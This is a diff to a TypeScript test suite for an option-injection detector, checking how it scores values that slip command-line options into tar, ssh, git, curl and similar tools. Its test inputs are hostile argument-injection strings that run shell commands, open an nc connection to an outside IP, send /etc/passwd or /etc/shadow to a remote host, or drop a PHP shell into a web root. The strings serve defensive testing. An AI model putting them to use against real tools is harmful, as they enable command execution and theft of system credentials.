@@ -6,20 +6,27 @@ const s = (text: string) => strength(optionInjectionAnalyzer, text, { name: "fil
 
 describe("option-injection analyzer: a value that is a tool's options", () => {
   test("options that make a tool run a program", () => {
-    for (const v of ["--checkpoint=1 --checkpoint-action=exec=sh shell.sh", "-oProxyCommand=sh -c 'id'", "-o ProxyCommand=nc 198.51.100.7 4444", '-o "ProxyCommand sh -c id"', "--upload-pack=touch /tmp/pwned", "--to-command=id", "-c core.sshCommand=id", "-exec sh -c id ;", "--use-compress-program=sh x.sh", " -TT=id"]) {
+    for (const v of [
+      "--checkpoint=1 --checkpoint-action=exec=sh shell.sh", "-oProxyCommand=sh -c 'id'", "-o ProxyCommand=nc 198.51.100.7 4444", '-o "ProxyCommand sh -c id"',
+      "--upload-pack=touch /tmp/pwned", "--to-command=id", "-c core.sshCommand=id", "-exec sh -c id ;", "--use-compress-program=sh x.sh", " -TT=id",
+      // a blank for `=`, getopt_long's abbreviations, an interpreter for -e
+      "--checkpoint-action exec=sh x", "--upload-pack touch /tmp/x", "--checkpoint-act=exec=sh x", "--to-comm=id", "-e python -c 'import os'", "-c protocol.ext.allow=always",
+    ]) {
       expect([v, strongest(optionInjectionAnalyzer, v)?.rule]).toEqual([v, "options.runs-command"]);
       expect(s(v)).toBe(0.9);
     }
   });
 
   test("options that send a local file away or write one into a web root or system directory", () => {
-    for (const v of ["--post-file=/etc/passwd http://198.51.100.7/", "-F 'x=@/etc/passwd' http://198.51.100.7/", "-X/var/www/html/shell.php", "-O /var/www/html/x.php http://198.51.100.7/x", "--upload-file /etc/shadow http://x/"]) {
+    for (const v of ["--post-file=/etc/passwd http://198.51.100.7/", "--post-file /etc/passwd http://198.51.100.7/", "-F 'x=@/etc/passwd' http://198.51.100.7/", "-d @/etc/passwd http://x/", "--data-binary @/etc/passwd", "-X/var/www/html/shell.php", "-O /var/www/html/x.php http://198.51.100.7/x", "--upload-file /etc/shadow http://x/", "-T/etc/passwd http://x/"]) {
       expect([v, s(v)]).toEqual([v, 0.85]);
     }
   });
 
   test("sort keys, negative numbers, flags and options quoted in prose are nothing", () => {
-    for (const v of ["-1", "--", "-sort=price", "-created_at", "-o json", "--help", "-- not sure", "-exec", "-T /", "run tar with --checkpoint-action=exec=x to see", "-v -o out.txt"]) expect([v, s(v)]).toEqual([v, 0]);
+    for (const v of ["-1", "--", "-sort=price", "-created_at", "-o json", "--help", "-- not sure", "-exec", "-T /", "run tar with --checkpoint-action=exec=x to see", "-v -o out.txt", "-exec is find's option to run a command", "-o /tmp/report.pdf"]) expect([v, s(v)]).toEqual([v, 0]);
+    // A Markdown list, a rule, a signature; options after a line break or after `--`.
+    for (const v of ["- Clean old logs: use find with -exec rm {} \\; to delete them\n- Rotate weekly", "- Step 1: download the file with curl -o /var/www/x", "--- \n-e sh", "-v\n--upload-pack=x", "-v -- --upload-pack=x"]) expect([v, s(v)]).toEqual([v, 0]);
     expect(optionInjectionAnalyzer.analyze({ text: "/a/--upload-pack=x", location: "path", path: "path", name: "", kind: "path" })).toEqual([]);
   });
 
